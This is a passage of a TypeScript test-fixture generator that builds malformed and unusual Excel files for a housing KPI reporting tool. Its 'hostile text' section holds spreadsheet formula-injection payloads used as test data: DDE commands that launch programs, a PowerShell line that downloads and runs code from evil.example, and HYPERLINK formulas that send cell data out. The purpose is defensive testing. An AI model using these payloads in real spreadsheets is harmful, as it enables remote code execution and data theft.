    rows.push([...l, ...rr]);
  }
  const wb = book([{ name: SIDE_BY_SIDE.sheet, rows, merges: ['A1:I1'] }]);
  const ws = wb.getWorksheet(SIDE_BY_SIDE.sheet)!;
  dressTable(ws, 3, 10, 1, 9);
  dressTable(ws, 3, 3 + right.length - 1, 11, 19);
  return xlsxBytes(wb);
}

async function emptyWorkbook(): Promise<Buffer> {
  const wb = book([{ name: 'Sheet1', rows: [] }]);
  return xlsxBytes(wb);
}

const CHART_XML = (
  title: string,
  cats: readonly string[],
  values: readonly number[],
) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<c:chart><c:title><c:tx><c:rich><a:bodyPr/><a:p><a:r><a:t>${title}</a:t></a:r></a:p></c:rich></c:tx><c:overlay val="0"/></c:title><c:autoTitleDeleted val="0"/>
<c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/><c:varyColors val="0"/>
<c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:v>Q2 2024/25</c:v></c:tx>
<c:cat><c:strLit><c:ptCount val="${cats.length}"/>${cats.map((cat, i) => `<c:pt idx="${i}"><c:v>${cat}</c:v></c:pt>`).join('')}</c:strLit></c:cat>
<c:val><c:numLit><c:formatCode>0.0%</c:formatCode><c:ptCount val="${values.length}"/>${values.map((v, i) => `<c:pt idx="${i}"><c:v>${v}</c:v></c:pt>`).join('')}</c:numLit></c:val></c:ser>
<c:axId val="1001"/><c:axId val="1002"/></c:barChart>
<c:catAx><c:axId val="1001"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:delete val="0"/><c:axPos val="b"/><c:crossAx val="1002"/></c:catAx>
<c:valAx><c:axId val="1002"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:delete val="0"/><c:axPos val="l"/><c:crossAx val="1001"/></c:valAx>
</c:plotArea><c:plotVisOnly val="1"/></c:chart></c:chartSpace>`;

const CHART_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/chart';
const DRAWING_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing';
const CHART_TYPE = 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml';
const DRAWING_TYPE = 'application/vnd.openxmlformats-officedocument.drawing+xml';
const CHARTSHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.chartsheet+xml';

const graphicFrame = (name: string) =>
  `<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="${name}"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="${CHART_REL.replace('officeDocument/2006/relationships/chart', 'drawingml/2006/chart')}"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/>`;

function addChartParts(zip: JSZip, n: number, anchor: string, title: string): void {
  zip.file(
    `xl/charts/chart${n}.xml`,
    CHART_XML(
      title,
      FIRST_BLOCK.map((k) => k.ref),
      [0.902, 0.0327, 0.021, 0.055, 0, 0.79, 0.67],
    ),
  );
  zip.file(
    `xl/drawings/drawing${n}.xml`,
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">${anchor}</xdr:wsDr>`,
  );
  zip.file(
    `xl/drawings/_rels/drawing${n}.xml.rels`,
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${CHART_REL}" Target="../charts/chart${n}.xml"/></Relationships>`,
  );
}

export const ONLY_CHARTS = {
  /** only-charts.xlsx: a workbook whose one sheet is a chart sheet (Insert → Chart → Move to new sheet). */
  chartSheet: 'Q2 chart',
  /** chart-on-empty-sheet.xlsx: a worksheet with a chart on it and no cells. */
  dashboard: 'Dashboard',
} as const;

/** A chart sheet and nothing else. exceljs can't write chart sheets, so the package is written part by part. */
async function onlyCharts(): Promise<Buffer> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/chartsheets/sheet1.xml" ContentType="${CHARTSHEET_TYPE}"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/><Override PartName="/xl/drawings/drawing1.xml" ContentType="${DRAWING_TYPE}"/><Override PartName="/xl/charts/chart1.xml" ContentType="${CHART_TYPE}"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/><Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>`,
  );
  zip.file(
    '_rels/.rels',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/></Relationships>`,
  );
  zip.file(
    'docProps/core.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>Housing Management &amp; Enforcement</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">2025-01-01T00:00:00Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2025-01-01T00:00:00Z</dcterms:modified></cp:coreProperties>`,
  );
  zip.file(
    'docProps/app.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Application>Microsoft Excel</Application><HeadingPairs><vt:vector size="2" baseType="variant"><vt:variant><vt:lpstr>Charts</vt:lpstr></vt:variant><vt:variant><vt:i4>1</vt:i4></vt:variant></vt:vector></HeadingPairs><TitlesOfParts><vt:vector size="1" baseType="lpstr"><vt:lpstr>${ONLY_CHARTS.chartSheet}</vt:lpstr></vt:vector></TitlesOfParts></Properties>`,
  );
  zip.file(
    'xl/workbook.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><workbookPr defaultThemeVersion="164011"/><bookViews><workbookView xWindow="0" yWindow="0" windowWidth="28800" windowHeight="12300"/></bookViews><sheets><sheet name="${ONLY_CHARTS.chartSheet}" sheetId="1" r:id="rId1"/></sheets><calcPr calcId="191029"/></workbook>`,
  );
  zip.file(
    'xl/_rels/workbook.xml.rels',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/chartsheet" Target="chartsheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`,
  );
  zip.file(
    'xl/styles.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>`,
  );
  zip.file(
    'xl/chartsheets/sheet1.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetPr/><sheetViews><sheetView zoomScale="110" workbookViewId="0" zoomToFit="1"/></sheetViews><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/><drawing r:id="rId1"/></chartsheet>`,
  );
  zip.file(
    'xl/chartsheets/_rels/sheet1.xml.rels',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${DRAWING_REL}" Target="../drawings/drawing1.xml"/></Relationships>`,
  );
  addChartParts(
    zip,
    1,
    `<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9294091" cy="6069542"/>${graphicFrame('Chart 1')}</xdr:absoluteAnchor>`,
    'KPIs Q2 2024/25',
  );
  return fixedZip(await zip.generateAsync({ type: 'uint8array' }));
}

/** A worksheet with a chart on it and not one cell: the dashboard an officer keeps by itself. */
async function chartOnEmptySheet(): Promise<Buffer> {
  const wb = book([{ name: ONLY_CHARTS.dashboard, rows: [] }]);
  return xlsxBytes(wb, async (zip) => {
    addChartParts(
      zip,
      1,
      `<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>9</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>18</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>${graphicFrame('Q2 chart')}</xdr:twoCellAnchor>`,
      'KPIs Q2 2024/25',
    );
    zip.file(
      'xl/worksheets/_rels/sheet1.xml.rels',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${DRAWING_REL}" Target="../drawings/drawing1.xml"/></Relationships>`,
    );
    await replaceIn(zip, 'xl/worksheets/sheet1.xml', (xml) => {
      const withNs = xml.includes('xmlns:r=')
        ? xml
        : xml.replace('<worksheet ', '<worksheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ');
      return withNs.replace('</worksheet>', '<drawing r:id="rId1"/></worksheet>');
    });
    await replaceIn(zip, '[Content_Types].xml', (xml) =>
      xml.replace(
        '</Types>',
        `<Override PartName="/xl/charts/chart1.xml" ContentType="${CHART_TYPE}"/><Override PartName="/xl/drawings/drawing1.xml" ContentType="${DRAWING_TYPE}"/></Types>`,
      ),
    );
  });
}

/** Files named .xlsx that are not workbooks: an HTML export, a CSV, a Word document, and nothing at all. */
export const NOT_WORKBOOKS = {
  html: 'not-a-workbook-html.xlsx',
  csv: 'not-a-workbook-csv.xlsx',
  docx: 'not-a-workbook-docx.xlsx',
  empty: 'zero-bytes.xlsx',
} as const;

function htmlExport(): Buffer {
  // What many housing systems call "Export to Excel": an HTML table with an .xls(x) name.
  const rows = FIRST_BLOCK.map(
    (k) => `<tr><td>${k.ref}</td><td>${k.description}</td><td>${typeof k.q1 === 'object' && k.q1 && 'v' in k.q1 ? k.q1.v : k.q1}</td></tr>`,
  ).join('\n');
  return Buffer.from(
    `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">\n<head><meta charset="utf-8"><title>KPIs 2024-25</title></head>\n<body><table>\n<tr><th>${HEADER.slice(0, 3).join('</th><th>')}</th></tr>\n${rows}\n</table></body></html>\n`,
    'utf8',
  );
}

function csvExport(): Buffer {
  const quote = (s: string) => (/[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  const lines = [
    HEADER.join(','),
    ...FIRST_BLOCK.map((k) =>
      [k.ref, quote(k.description), typeof k.q1 === 'object' && k.q1 && 'v' in k.q1 ? k.q1.v : k.q1, '', '', '', '', '', ''].join(','),
    ),
  ];
  // With a UTF-8 byte order mark, as Excel's "CSV UTF-8" writes it.
  return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(lines.join('\r\n') + '\r\n', 'utf8')]);
}

async function wordDocument(): Promise<Buffer> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  zip.file(
    '_rels/.rels',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
  );
  zip.file(
    'word/document.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${TITLE.replace(/&/g, '&amp;')}</w:t></w:r></w:p></w:body></w:document>`,
  );
  return fixedZip(await zip.generateAsync({ type: 'uint8array' }));
}

// ---- an encrypted workbook: a Compound File (OLE2) as Excel writes a password-protected .xlsx ----

/** A seeded byte stream (xorshift32): the ciphertext of the "encrypted" package, the same every time. */
function pseudoRandomBytes(length: number, seed = 0x9e3779b9): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/** Excel's sheet-protection hash: SHA-512 of salt and password, then `spinCount` rounds with the round number. */
function sheetPasswordHash(password: string, saltBase64: string, spinCount: number): string {
  let key = createHash('sha512')
    .update(Buffer.concat([Buffer.from(saltBase64, 'base64'), Buffer.from(password, 'utf16le')]))
    .digest();
  const round = Buffer.alloc(4);
  for (let i = 0; i < spinCount; i++) {
    round.writeUInt32LE(i, 0);
    key = createHash('sha512')
      .update(Buffer.concat([key, round]))
      .digest();
  }
  return key.toString('base64');
}

const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');
function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
}
function u16(n: number): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
}
/** A length-prefixed UTF-16 string padded to 4 bytes ([MS-OFFCRYPTO] 2.1.2). */
function unicodeLpp4(text: string): Buffer {
  const body = utf16(text);
  const pad = (4 - (body.length % 4)) % 4;
  return Buffer.concat([u32(body.length), body, Buffer.alloc(pad)]);
}

/** The streams of an agile-encrypted package ([MS-OFFCRYPTO] 2.3.4.10), with the \x06DataSpaces storage. */
function encryptedStreams(): { path: string[]; data: Buffer }[] {
  const b64 = (n: number, seed: number) => pseudoRandomBytes(n, seed).toString('base64');
  const xml =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
    '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password" xmlns:c="http://schemas.microsoft.com/office/2006/keyEncryptor/certificate">' +
    `<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="${b64(16, 1)}"/>` +
    `<dataIntegrity encryptedHmacKey="${b64(64, 2)}" encryptedHmacValue="${b64(64, 3)}"/>` +
    '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">' +
    `<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="${b64(16, 4)}" encryptedVerifierHashInput="${b64(16, 5)}" encryptedVerifierHashValue="${b64(64, 6)}" encryptedKeyValue="${b64(32, 7)}"/>` +
    '</keyEncryptor></keyEncryptors></encryption>';
  const encryptionInfo = Buffer.concat([u16(4), u16(4), u32(0x40), Buffer.from(xml, 'utf8')]);
  // StreamSize (8 bytes, the plaintext package's length) then AES blocks.
  const packageSize = 9_317;
  const encryptedPackage = Buffer.concat([u32(packageSize), u32(0), pseudoRandomBytes(Math.ceil(packageSize / 4096) * 4096, 0xc0ffee)]);
  const version = Buffer.concat([unicodeLpp4('Microsoft.Container.DataSpaces'), u16(1), u16(0), u16(1), u16(0), u16(1), u16(0)]);
  const mapEntry = Buffer.concat([u32(1), u32(0), unicodeLpp4('EncryptedPackage'), unicodeLpp4('StrongEncryptionDataSpace')]);
  const dataSpaceMap = Buffer.concat([u32(8), u32(1), u32(mapEntry.length + 4), mapEntry]);
  const dataSpaceDefinition = Buffer.concat([u32(8), u32(1), unicodeLpp4('StrongEncryptionTransform')]);
  const transformId = '{FF9A3F03-56EF-4613-BDD5-5A41C1D07246}';
  const transformBody = Buffer.concat([
    u32(1),
    unicodeLpp4(transformId),
    unicodeLpp4('Microsoft.Container.EncryptionTransform'),
    u16(1),
    u16(0),
    u16(1),
    u16(0),
    u16(1),
    u16(0),
  ]);
  const primary = Buffer.concat([u32(transformBody.length + 4), transformBody, u32(0), unicodeLpp4(''), u32(0), u32(0), u32(4)]);
  return [
    { path: ['\u0006DataSpaces', 'Version'], data: version },
    { path: ['\u0006DataSpaces', 'DataSpaceMap'], data: dataSpaceMap },
    { path: ['\u0006DataSpaces', 'DataSpaceInfo', 'StrongEncryptionDataSpace'], data: dataSpaceDefinition },
    { path: ['\u0006DataSpaces', 'TransformInfo', 'StrongEncryptionTransform', '\u0006Primary'], data: primary },
    { path: ['EncryptionInfo'], data: encryptionInfo },
    { path: ['EncryptedPackage'], data: encryptedPackage },
  ];
}

const SECTOR = 512;
const MINI = 64;
const CUTOFF = 4096;
const ENDOFCHAIN = 0xfffffffe;
const FREESECT = 0xffffffff;
const FATSECT = 0xfffffffd;
const NOSTREAM = 0xffffffff;

/** CFB names order by length, then by upper-cased UTF-16 ([MS-CFB] 2.6.4). */
function compareNames(a: string, b: string): number {
  if (a.length !== b.length) return a.length - b.length;
  const ua = a.toUpperCase();
  const ub = b.toUpperCase();
  return ua < ub ? -1 : ua > ub ? 1 : 0;
}

interface DirEntry {
  name: string;
  type: 1 | 2 | 5;
  children: DirEntry[];
  data?: Buffer;
  start: number;
  size: number;
  id: number;
  left: number;
  right: number;
  child: number;
}

/**
 * A Compound File Binary (version 3, 512-byte sectors) holding `streams`: header, FAT, mini FAT,
 * the mini stream for streams under 4,096 bytes, and a directory whose siblings form a binary
 * search tree (all black, which readers accept).
 */
export function compoundFile(streams: ReadonlyArray<{ path: readonly string[]; data: Buffer }>): Buffer {
  const root: DirEntry = {
    name: 'Root Entry',
    type: 5,
    children: [],
    start: ENDOFCHAIN,
    size: 0,
    id: 0,
    left: NOSTREAM,
    right: NOSTREAM,
    child: NOSTREAM,
  };
  for (const stream of streams) {
    let parent = root;
    stream.path.forEach((part, i) => {
      const last = i === stream.path.length - 1;
      let node = parent.children.find((c) => c.name === part);
      if (!node) {
        node = {
          name: part,
          type: last ? 2 : 1,
          children: [],
          start: last ? ENDOFCHAIN : 0,
          size: 0,
          id: 0,
          left: NOSTREAM,
          right: NOSTREAM,
          child: NOSTREAM,
          ...(last ? { data: stream.data } : {}),
        };
        parent.children.push(node);
      }
      parent = node;
    });
  }
  const entries: DirEntry[] = [];
  const number = (node: DirEntry) => {
    node.id = entries.length;
    entries.push(node);
    node.children.sort((a, b) => compareNames(a.name, b.name));
    for (const child of node.children) number(child);
  };
  number(root);
  // Siblings as a balanced binary search tree; the parent points at its root.
  const tree = (nodes: DirEntry[]): number => {
    if (nodes.length === 0) return NOSTREAM;
    const mid = Math.floor(nodes.length / 2);
    const node = nodes[mid]!;
    node.left = tree(nodes.slice(0, mid));
    node.right = tree(nodes.slice(mid + 1));
    return node.id;
  };
  for (const node of entries) node.child = tree(node.children);

  // Small streams go in the mini stream, big ones in sectors of their own.
  const small = entries.filter((e) => e.type === 2 && e.data!.length < CUTOFF);
  const big = entries.filter((e) => e.type === 2 && e.data!.length >= CUTOFF);
  const miniChunks: Buffer[] = [];
  const miniFat: number[] = [];
  for (const entry of small) {
    const count = Math.max(1, Math.ceil(entry.data!.length / MINI));
    entry.start = entry.data!.length === 0 ? ENDOFCHAIN : miniFat.length;
    entry.size = entry.data!.length;
    for (let i = 0; i < count; i++) miniFat.push(i === count - 1 ? ENDOFCHAIN : miniFat.length + 1);
    const padded = Buffer.alloc(count * MINI);
    entry.data!.copy(padded);
    miniChunks.push(padded);
  }
  const miniStream = Buffer.concat(miniChunks);
  const sectorsFor = (bytes: number) => Math.ceil(bytes / SECTOR);

  // Layout: [FAT][directory][mini FAT][mini stream][big streams…]
  const dirSectors = sectorsFor(entries.length * 128);
  const miniFatSectors = sectorsFor(miniFat.length * 4);
  const miniStreamSectors = sectorsFor(miniStream.length);
  const bigSectors = big.map((e) => sectorsFor(e.data!.length));
  const dataSectors = dirSectors + miniFatSectors + miniStreamSectors + bigSectors.reduce((a, b) => a + b, 0);
  let fatSectors = 1;
  while (fatSectors * (SECTOR / 4) < fatSectors + dataSectors) fatSectors++;
  if (fatSectors > 109) throw new Error('compoundFile: too big for a header-only DIFAT');

  const fat: number[] = [];
  for (let i = 0; i < fatSectors; i++) fat.push(FATSECT);
  const chain = (count: number): number => {
    const start = fat.length;
    for (let i = 0; i < count; i++) fat.push(i === count - 1 ? ENDOFCHAIN : fat.length + 1);
    return count === 0 ? ENDOFCHAIN : start;
  };
  const dirStart = chain(dirSectors);
  const miniFatStart = chain(miniFatSectors);
  root.start = chain(miniStreamSectors);
  root.size = miniStream.length;
  big.forEach((entry, i) => {
    entry.start = chain(bigSectors[i]!);
    entry.size = entry.data!.length;
  });
  while (fat.length < fatSectors * (SECTOR / 4)) fat.push(FREESECT);

  const header = Buffer.alloc(SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x003e, 24); // minor version
  header.writeUInt16LE(0x0003, 26); // major version 3
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // 512-byte sectors
  header.writeUInt16LE(6, 32); // 64-byte mini sectors
  header.writeUInt32LE(0, 40); // directory sectors (0 in version 3)
  header.writeUInt32LE(fatSectors, 44);
  header.writeUInt32LE(dirStart, 48);
  header.writeUInt32LE(0, 52); // transaction signature
  header.writeUInt32LE(CUTOFF, 56);
  header.writeUInt32LE(miniFatSectors ? miniFatStart : ENDOFCHAIN, 60);
  header.writeUInt32LE(miniFatSectors, 64);
  header.writeUInt32LE(ENDOFCHAIN, 68); // no DIFAT sectors
  header.writeUInt32LE(0, 72);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i < fatSectors ? i : FREESECT, 76 + i * 4);

  const fatBytes = Buffer.alloc(fatSectors * SECTOR);
  fat.forEach((value, i) => fatBytes.writeUInt32LE(value >>> 0, i * 4));

  const dir = Buffer.alloc(dirSectors * SECTOR);
  for (let i = 0; i < dirSectors * (SECTOR / 128); i++) {
    const at = i * 128;
    const entry = entries[i];
    if (!entry) {
      dir.writeUInt32LE(NOSTREAM, at + 68);
      dir.writeUInt32LE(NOSTREAM, at + 72);
      dir.writeUInt32LE(NOSTREAM, at + 76);
      continue;
    }
    const name = utf16(entry.name);
    name.copy(dir, at);
    dir.writeUInt16LE(name.length + 2, at + 64);
    dir.writeUInt8(entry.type, at + 66);
    dir.writeUInt8(1, at + 67); // black
    dir.writeUInt32LE(entry.left, at + 68);
    dir.writeUInt32LE(entry.right, at + 72);
    dir.writeUInt32LE(entry.child, at + 76);
    if (entry.type !== 1) {
      dir.writeUInt32LE(entry.start >>> 0, at + 116);
      dir.writeUInt32LE(entry.size, at + 120);
    }
  }
  const miniFatBytes = Buffer.alloc(miniFatSectors * SECTOR, 0xff);
  miniFat.forEach((value, i) => miniFatBytes.writeUInt32LE(value >>> 0, i * 4));
  const pad = (buffer: Buffer, sectors: number) => {
    const out = Buffer.alloc(sectors * SECTOR);
    buffer.copy(out);
    return out;
  };
  return Buffer.concat([
    header,
    fatBytes,
    dir,
    miniFatBytes,
    pad(miniStream, miniStreamSectors),
    ...big.map((entry, i) => pad(entry.data!, bigSectors[i]!)),
  ]);
}

function encryptedWorkbook(): Buffer {
  return compoundFile(encryptedStreams());
}

/** Every status cell holds a formula an officer wrote (with its cached result). */
export const STATUS_FORMULAS = {
  sheet: KPI_SHEET,
  kpis: FIRST_BLOCK,
  rows: indicatorRows(FIRST_BLOCK),
  /** The formulas, by indicator: higher is better for 01, 06, 07; lower for 02–05. */
  formula: (ref: string, row: number): string =>
    ['01', '06', '07'].includes(ref)
      ? `IF(D${row}="","",IF(D${row}>=G${row},"Met","Not met"))`
      : `IF(ISNUMBER(D${row}),IF(D${row}<=G${row},"Met","Not met"),"No data")`,
  result: { '01': 'Not met', '02': 'Met', '03': 'Not met', '04': 'Not met', '05': 'No data', '06': 'Met', '07': 'Met' } as Record<
    string,
    string
  >,
} as const;

async function statusFormulas(): Promise<Buffer> {
  const wb = book([
    layoutASheet(STATUS_FORMULAS.sheet, STATUS_FORMULAS.kpis, {
      status: (k, row) => ({ formula: STATUS_FORMULAS.formula(k.ref, row), result: STATUS_FORMULAS.result[k.ref]! }),
    }),
  ]);
  dressTable(wb.getWorksheet(STATUS_FORMULAS.sheet)!, 3, 10);
  return xlsxBytes(wb);
}

// ---- hostile text ----------------------------------------------------------------------------

/** Text that a spreadsheet would take as a formula if it were entered rather than written literally. */
export const HOSTILE = {
  sheet: KPI_SHEET,
  descriptions: {
    '01': '=HYPERLINK("http://evil.example/steal?d="&A1,"Proportion of rent collected")',
    '02': "=cmd|' /C calc'!A0",
    '03': '+Former tenants arrears as a % of rent due',
    '04': '-Current tenants arrears as a % of rent due',
    '05': "@SUM(1+1)*cmd|' /C notepad'!A0",
    '06': 'Homelessness prevention =HYPERLINK("http://evil.example","click")',
    '07': '=1+1',
  } as Record<string, string>,
  owners: {
    '01': '=HYPERLINK("http://evil.example","J Smith")',
    '02': '+44 7700 900123 (J Patel)',
    '03': '-A Jones',
    '04': "@R Khan =cmd|' /C calc'!A0",
    '05': "=cmd|' /C powershell -nop -c iex(wget evil.example)'!A0",
    '06': 'S Green',
    '07': '=2+3',
  } as Record<string, string>,
  templates: {
    met: '=HYPERLINK("http://evil.example/?{ref}","{indicator}")',
    near: "{indicator} =cmd|' /C calc'!A0 ({owner})",
    missed: '{indicator} missed by {variance}; ask {owner}',
    'no-data': '@{ref} {indicator}: figures to come from {owner}',
  },
  labels: { met: '=Met', near: '+Near miss', missed: '-Not met', 'no-data': '@No data' },
  /** Committee details given on the command line. */
  committee: '=HYPERLINK("http://evil.example","Housing Scrutiny Panel")',
  meeting: "@15 January 2025 =cmd|' /C calc'!A0",
} as const;

export const HOSTILE_SETTINGS: SettingsInput = { version: 1, templates: { ...HOSTILE.templates }, labels: { ...HOSTILE.labels } };

/** 01–07 with hostile descriptions and no commentary; 07 has no figures yet, so its status is "No data" ("@No data"). */
export const HOSTILE_KPIS: readonly Kpi[] = FIRST_BLOCK.map((k) => ({
  ...k,
  description: HOSTILE.descriptions[k.ref]!,
  commentary: undefined,
  ...(k.ref === '07' ? { q1: 'TBC', q2: 'TBC' } : {}),
}));

async function hostileText(): Promise<Buffer> {
  const wb = book([
    layoutASheet(HOSTILE.sheet, HOSTILE_KPIS, { extraHeaders: ['Responsible officer'], extra: (k) => [HOSTILE.owners[k.ref]!] }),
    settingsXlsxSheet(HOSTILE_SETTINGS),
  ]);
  // The officer typed the hostile text into cells formatted as General: exceljs stores it as a string.
  return xlsxBytes(wb);
}

// ---------------------------------------------------------------------------------------------

export interface CorpusEntry {
  readonly file: string;
  /** What an officer would call it. */
  readonly what: string;
  readonly bytes: () => Promise<Buffer> | Buffer;
}

export const CORPUS = {
  mergedHeaders: {
    file: 'merged-headers.xlsx',
    what: 'a merged title and a two-row header with a merged "Actuals 2024/25" over Q1–Q4',
    bytes: mergedHeaders,
  },
  mergedStatus: {
    file: 'merged-status.xlsx',
    what: 'status and commentary cells merged over two-row indicators, and one status cell merged over two indicators',
    bytes: mergedStatus,
  },
  hidden: {
